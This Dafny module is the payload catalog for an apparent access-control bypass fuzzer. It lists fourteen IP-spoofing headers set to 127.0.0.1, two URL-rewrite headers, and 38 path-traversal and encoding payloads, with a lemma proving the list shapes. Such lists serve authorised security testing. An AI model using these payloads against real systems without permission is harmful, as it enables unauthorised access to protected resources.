/**
 The fixed, ordered payload lists the generator iterates. Order and
 repetition matter: they decide the order and the number of generated
 targets, so the lists are sequences and the duplicates are kept.
 */
module Catalog {

  /** The placeholder put into a path and later replaced by a payload. */
  const FuzzerKey: string := "FUZZ"

  /** The loopback address every trusted-IP header is set to. */
  const HeaderValue: string := "127.0.0.1"

  /** Headers that proxies use to pass on the client's address. */
  const HeaderPayloads: seq<string> := [
    "X-Custom-IP-Authorization",
    "X-Forwarded-For",
    "X-ProxyUser-Ip",
    "X-Forwarded-Host",
    "X-Originating-IP",
    "X-Forwarded-port",
    "X-Forwarded-by",
    "X-Forwarded-Scheme",
    "X-Frame-Options",
    "X-Client-IP",
    "X-Remote-IP",
    "X-Remote-Addr",
    "Client-IP",
    "X-Host"
  ]

  /** Headers that rewrite the request path on the server side. */
  const UrlHeaders: seq<string> := [
    "X-Original-URL",
    "X-rewrite-url"
  ]

  /** Path obfuscations substituted for the placeholder. */
  const UrlPayloads: seq<string> := [
    "؟",
    "؟؟",
    "&",
    "#",
    "%",
    "%20",
    "%09",
    "/",
    "/..;/",
    "../",
    "/",
    "/*",
    "/%2f/",
    "/./",
    "./.",
    "/*/",
    "?",
    "??",
    "&",
    "#",
    "%",
    "%20",
    "%09",
    "/..;/",
    "../",
    "..%2f",
    "..;/",
    ".././",
    "..%00/",
    "..%0d",
    "..%5c",
    "..%ff/",
    "%2e%2e%2f",
    ".%2e/",
    "%3f",
    "%26",
    "%23",
    ".json"
  ]

  /** Sizes of the lists, every payload and header name non-empty, and the repeated entries
      ("&" and "/" among them) that make the catalog a list rather than a set. */
  lemma CatalogShape()
    ensures |HeaderPayloads| == 14 && |UrlHeaders| == 2 && |UrlPayloads| == 38
    ensures forall k :: 0 <= k < |UrlPayloads| ==> UrlPayloads[k] != ""
    ensures forall k :: 0 <= k < |HeaderPayloads| ==> HeaderPayloads[k] != ""
    ensures forall k :: 0 <= k < |UrlHeaders| ==> UrlHeaders[k] != ""
    ensures UrlPayloads[2] == UrlPayloads[18] == "&"
    ensures UrlPayloads[7] == UrlPayloads[10] == "/"
    ensures UrlPayloads[9] == UrlPayloads[24] == "../"
  {
  }
}
